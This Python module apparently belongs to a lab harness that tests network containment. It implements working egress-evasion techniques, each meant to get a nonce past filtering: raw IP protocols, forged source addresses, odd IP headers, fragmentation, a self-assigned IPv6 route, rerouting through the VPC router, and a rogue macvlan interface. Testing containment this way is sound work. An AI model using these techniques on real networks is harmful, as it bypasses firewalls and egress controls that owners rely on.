"""Attempts below TCP and UDP: other IP protocols, fragments, forged senders, IPv6 where there should be none. They need raw sockets."""

from __future__ import annotations

import socket
import struct
import subprocess
import time

from containment.lab.world.attacks.raw_ip import EVIL, MORE, checksum, datagram, packet, send
from containment.lab.world.attacks.task import Attempt, Technique


def protocol(attempt: Attempt) -> None:
    """Send the nonce in packets of any IP protocol by number (1 is an echo request)."""
    number = attempt.number("number", 47)
    payload = attempt.nonce.encode()
    if number == 1:
        payload = _icmp(attempt.number("icmp", 8), attempt.number("code", 0), payload)
    elif number == 47:
        payload = struct.pack("!HH", 0, 0x0800) + payload
    elif number == 132:
        payload = _sctp(payload)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, number) as handle:
        for _ in range(2):
            handle.sendto(payload, (attempt.target(), 0))
            time.sleep(0.2)


def forged(attempt: Attempt) -> None:
    """Send a datagram under somebody else's address."""
    source, where = _peer(attempt) if attempt.option("as") == "peer" else attempt.option("as"), attempt.target()
    data = datagram(attempt.nonce.encode(), attempt.number("port", 443))
    for _ in range(2):
        send(where, packet(where, 17, data, source=source, number=1))
        time.sleep(0.2)


def odd_header(attempt: Attempt) -> None:
    """Send a datagram whose IP header is odd: options, the reserved flag, a service class, few hops left."""
    where = attempt.target()
    data = datagram(attempt.nonce.encode(), attempt.number("port", 443), 40002)
    flags = EVIL if attempt.option("flag") == "evil" else 0
    options = bytes.fromhex(attempt.option("options").replace("ATTACKER", socket.inet_aton(attempt.address).hex()))
    for number in (78, 79):
        send(
            where,
            packet(
                where,
                17,
                data,
                number=number,
                flags=flags,
                ttl=attempt.number("ttl", 64),
                tos=attempt.number("tos", 0),
                options=options,
            ),
        )
        time.sleep(0.2)


def _peer(attempt: Attempt) -> str:
    """Return an address of the host's own subnet that is not its own."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as handle:
        handle.connect((attempt.resolver, 53))
        return str(handle.getsockname()[0]).rpartition(".")[0] + ".77"


def fragments(attempt: Attempt) -> None:
    """Send a datagram in IP fragments, the first too small to hold its ports whole; `reversed`: the last one first."""
    where = attempt.target()
    data = datagram(attempt.nonce.encode().ljust(64, b"."), attempt.number("port", 443), 40001)
    pieces = [
        packet(where, 17, data[at : at + 8], number=77, flags=(0 if at + 8 >= len(data) else MORE) | at // 8)
        for at in range(0, len(data), 8)
    ]
    for _ in range(2):
        send(where, *(reversed(pieces) if "reversed" in attempt.options else pieces))
        time.sleep(0.2)


def six(attempt: Attempt) -> None:
    """Give the interface an IPv6 address of one's own choice, and send the nonce over IPv6."""
    own = f"2001:db8:42::{int(attempt.address.rpartition('.')[2]):x}"
    for words in (
        ["address", "replace", f"{own}/128", "dev", "eth0", "nodad"],
        ["neigh", "replace", "fe80::1", "lladdr", "02:ff:00:00:00:01", "dev", "eth0", "nud", "permanent"],
        ["route", "replace", "default", "via", "fe80::1", "dev", "eth0"],
    ):
        subprocess.run(["ip", "-6", *words], check=True, capture_output=True)
    where = "2001:db8:66::66"
    attempt.marks += [where, own]
    if attempt.option("via", "udp") == "icmp":
        with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as handle:
            handle.bind((own, 0))
            handle.sendto(struct.pack("!BBHHH", 128, 0, 0, 1, 1) + attempt.nonce.encode(), (where, 0, 0, 0))
        return
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as handle:
        handle.bind((own, 0))
        for _ in range(2):
            handle.sendto(attempt.nonce.encode(), (where, attempt.number("port", 443)))
            time.sleep(0.2)


def rerouted(attempt: Attempt) -> None:
    """Send by way of another next hop: the VPC router of the gateway's own subnet."""
    where = attempt.target()
    hop = attempt.gateway.rpartition(".")[0] + ".1"
    for words in (
        ["route", "replace", hop, "dev", "eth0", "scope", "link"],
        ["neigh", "replace", hop, "lladdr", "02:ff:00:00:00:01", "dev", "eth0"],
    ):
        subprocess.run(["ip", *words], check=True, capture_output=True)
    subprocess.run(["ip", "route", "replace", f"{where}/32", "via", hop, "dev", "eth0"], check=True, capture_output=True)
    with socket.create_connection((where, 443), timeout=attempt.timeout) as handle:
        handle.sendall(attempt.nonce.encode() + b"\r\n\r\n")
        time.sleep(1)


def second_interface(attempt: Attempt) -> None:
    """Make another interface on the host's link, with an address nobody gave out, and send from there."""
    link, where = f"mv{attempt.address.rpartition('.')[2]}", attempt.target()
    own = attempt.gateway.rpartition(".")[0] + ".77"
    subprocess.run(["ip", "link", "add", link, "link", "eth0", "type", "macvlan", "mode", "bridge"], check=True, capture_output=True)
    try:
        for words in (
            ["address", "replace", f"{own}/32", "dev", link],
            ["link", "set", link, "up"],
            ["neigh", "replace", "169.254.1.1", "lladdr", "02:ff:00:00:00:01", "dev", link, "nud", "permanent"],
            ["route", "replace", "169.254.1.1", "dev", link, "scope", "link"],
            ["route", "replace", f"{where}/32", "via", "169.254.1.1", "dev", link, "src", own],
        ):
            subprocess.run(["ip", *words], check=True, capture_output=True)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as handle:
            for _ in range(2):
                handle.sendto(attempt.nonce.encode(), (where, 443))
                time.sleep(0.2)
    finally:
        subprocess.run(["ip", "link", "delete", link], check=False, capture_output=True)


def _icmp(kind: int, code: int, payload: bytes) -> bytes:
    whole = struct.pack("!BBHHH", kind, code, 0, 1, 1) + payload
    return whole[:2] + struct.pack("!H", checksum(whole)) + whole[4:]


def _sctp(payload: bytes) -> bytes:
    """Return an INIT that holds the payload as a parameter nobody knows."""
    parameter = struct.pack("!HH", 0xC0FE, 4 + len(payload)) + payload + b"\0" * (-len(payload) % 4)
    chunk = struct.pack("!BBHIIHHI", 1, 0, 20 + len(parameter), 7, 65536, 1, 1, 1) + parameter
    head = struct.pack("!HHI", 40003, 443, 0)
    return head + struct.pack("<I", _crc32c(head + b"\0" * 4 + chunk)) + chunk


def _crc32c(data: bytes) -> int:
    value = 0xFFFFFFFF
    for byte in data:
        value ^= byte
        for _ in range(8):
            value = value >> 1 ^ (0x82F63B78 if value & 1 else 0)
    return value ^ 0xFFFFFFFF


TECHNIQUES: dict[str, Technique] = {
    "protocol": protocol,
    "forged": forged,
    "fragments": fragments,
    "odd-header": odd_header,
    "six": six,
    "rerouted": rerouted,
    "second-interface": second_interface,
}
